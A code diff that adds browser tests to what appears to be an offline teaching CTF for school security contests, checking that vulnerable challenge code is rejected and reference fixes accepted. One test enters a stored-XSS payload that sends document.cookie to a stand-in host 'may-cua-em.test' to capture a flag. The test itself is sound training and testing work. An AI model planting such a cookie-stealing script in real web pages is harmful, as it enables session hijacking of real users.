@@ -130,6 +130,56 @@ describe('contest page in a school lab with no LMS and no server (standalone)', 
   }, 120_000);
 });
 
+describe('fix-checking in the browser, for every coding challenge', () => {
+  const byContest = { 'contest-thpt': ['grade-validation', 'sqli-login', 'xss-reflected', 'idor-report', 'cookie-role'], 'contest-dai-hoc': ['sqli-union', 'xss-stored', 'path-traversal'] };
+  for (const [contest, ids] of Object.entries(byContest)) {
+    it(`${contest}: the unpatched code is rejected and the reference fix accepted`, async () => {
+      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+      const page = await context.newPage();
+      await page.goto(`${server.url}/play/${contest}/index.html`);
+      await page.fill('#ct-team', 'kiem-tra');
+      await page.click('#ct-start');
+      await page.waitForSelector('#ct-title');
+      for (const id of ids) {
+        await openChallenge(page, id);
+        await page.click('#ct-check');
+        await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('false');
+        await page.fill('#ct-code', SOLUTIONS[id]?.reference ?? '');
+        await page.click('#ct-check');
+        await expect.poll(() => page.getAttribute('#ct-fix-result', 'data-accepted'), { timeout: 15000 }).toBe('true');
+        expect(await page.locator('#ct-fix-result li[data-pass=false]').count(), id).toBe(0);
+      }
+      await context.close();
+    }, 120_000);
+  }
+
+  it('stored XSS: the form teacher\'s browser (sandboxed, no network) runs the entry and her cookie reaches the learner\'s machine', async () => {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+    const page = await context.newPage();
+    const hosts = watchHosts(page);
+    await page.goto(`${server.url}/play/contest-dai-hoc/index.html`);
+    await page.fill('#ct-team', 'Đội 9');
+    await page.click('#ct-start');
+    await page.waitForSelector('#ct-title');
+    await openChallenge(page, 'xss-stored');
+    await view(page).locator('input[name=ten]').fill('Bạn bí ẩn');
+    await view(page).locator('textarea[name=loi]').fill(`<script>fetch('http://may-cua-em.test/?c='+encodeURIComponent(document.cookie))</script>`);
+    await view(page).locator('form[action="/viet"] button').click();
+    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Bạn bí ẩn');
+    await view(page).locator('form[action="/nho-co-duyet"] button').click();
+    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('Máy của em nhận được 1');
+    await page.fill('#ct-address', 'http://may-cua-em.test/');
+    await page.selectOption('#ct-method', 'GET');
+    await page.click('#ct-send');
+    await expect.poll(() => page.textContent('#ct-source'), { timeout: 15000 }).toContain('KS%7B');
+    const flag = flagIn(decodeURIComponent(await page.textContent('#ct-source') ?? ''));
+    expect(flag).toBe(deriveFlag(SEED, 'xss-stored', 'Đội 9'));
+    expect(await submitFlag(page, flag)).toBe('true');
+    expect([...hosts]).toEqual([new URL(server.url).host]);
+    await context.close();
+  }, 120_000);
+});
+
 describe('contest unit in a SCORM 1.2 LMS (Moodle rules)', () => {
   it('reports solved challenges minus hints as the grade, per learner flags, and resumes in the next session', async () => {
     const launcher = createLmsLauncher(browser, server.url);
